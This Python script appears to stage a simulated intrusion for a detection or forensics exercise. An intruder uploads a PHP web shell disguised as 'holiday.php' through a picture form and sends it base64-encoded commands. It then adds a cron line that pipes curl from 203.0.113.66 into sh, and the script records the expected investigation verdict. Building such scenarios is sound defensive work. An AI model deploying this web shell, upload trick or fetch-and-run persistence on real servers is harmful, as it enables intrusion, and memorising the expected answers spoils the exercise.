"""A form that takes any file: a web shell goes in, is called, and leaves a timed command as the web server's own user.

The shell does what it is told only where that stands in its own short list."""

import base64
import hashlib

from scenarios import guessing, noisy, normal
from stage import web
from stage.clock import now
from stage.network import ATTACKERS

LOG_FORMAT = "rfc3339"
ROLES = ("gallery",)
INTRUDER = ATTACKERS[2]
AGENT = "Mozilla/5.0 (compatible; Googlebot/2.1)"
NAME = "holiday.php"
PATH = f"/var/www/html/uploads/gallery/{NAME}"
URL = f"/uploads/gallery/{NAME}"
# Nothing has this address, so nothing is ever fetched.
CRON_LINE = "* * * * * curl -fsS -m 5 http://203.0.113.66/i.sh | sh"
CRON_COMMAND = f"(crontab -l 2>/dev/null; echo '{CRON_LINE}') | crontab -"
COMMANDS = ("id", "uname -a", "ls -la /var/www/html", CRON_COMMAND)


def play(host, network, facts) -> None:
    facts.notes.update(verdict_expected="intrusion", accused=["www-data"], account="www-data", attacker_address=INTRUDER,
                       attacker_addresses=[INTRUDER, ATTACKERS[0], ATTACKERS[5]], entry_vector="upload",
                       verdict={"intrusion": "confirmed", "mail_abuse": "none_found", "ways": []})
    normal.round_of_work(host, facts)
    guessing.spray(host, facts, [ATTACKERS[0]], guessing.NAMES[:8], rounds=1, width=4)
    host.rotate_logs(everything=True)
    noisy.scan(ATTACKERS[5])
    _pictures(facts)
    normal.round_of_work(host, facts, typos=1)
    host.rotate_logs(everything=False)
    _pictures(facts)
    _upload(host, facts)
    _use(facts)
    host.wait_for("/var/log/cron.log", r"\(www-data\) CMD \(curl")
    facts.notes["cron"]["fired"] = True
    _pictures(facts)
    normal.round_of_work(host, facts)


def _pictures(facts) -> None:
    """Readers send what the form is for, some of them while the intruder is at work."""
    for n, source in enumerate(normal.READERS[:4]):
        facts.legit("", source)
        if web.upload(source, "/gallery/send.php", "picture", f"garden{n}.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(32)) != 200:
            raise RuntimeError("a reader could not send a picture")


def _upload(host, facts) -> None:
    for path in ("/", "/gallery/send.php", "/uploads/gallery/"):
        web.request(INTRUDER, path, agent=AGENT)
    source = _shell()
    facts.step("upload", path=PATH, address=INTRUDER, url="/gallery/send.php")
    facts.step("web_shell", path=PATH)
    status = web.upload(INTRUDER, "/gallery/send.php", "picture", NAME, "image/png", source.encode(), agent=AGENT)
    if status != 200 or not (host.root / PATH.lstrip("/")).exists():
        raise RuntimeError(f"the form answered {status} and the shell is not there")
    facts.notes["web_shell"] = {"path": PATH, "sha256": hashlib.sha256(source.encode()).hexdigest(), "url": URL, "added_at": now(), "posts": 0}


def _shell() -> str:
    known = ", ".join(f"'{base64.b64encode(command.encode()).decode()}'" for command in COMMANDS)
    return f"<?php\n$c = $_POST['c'];\nif (in_array($c, [{known}], true)) {{ echo shell_exec(base64_decode($c)); }}\n"


def _use(facts) -> None:
    facts.step("called", path=PATH, address=INTRUDER)
    for command in COMMANDS:
        form = "c=" + base64.b64encode(command.encode()).decode().replace("+", "%2B").replace("=", "%3D")
        if web.request(INTRUDER, URL, form=form, agent=AGENT) != 200:
            raise RuntimeError("the web shell did not answer")
        facts.notes["web_shell"].setdefault("first_post_at", now())
        facts.notes["web_shell"]["posts"] += 1
    facts.step("cron", path="/var/spool/cron/crontabs/www-data", account="www-data")
    facts.notes["cron"] = {"path": "/var/spool/cron/crontabs/www-data", "line": CRON_LINE, "added_at": now()}
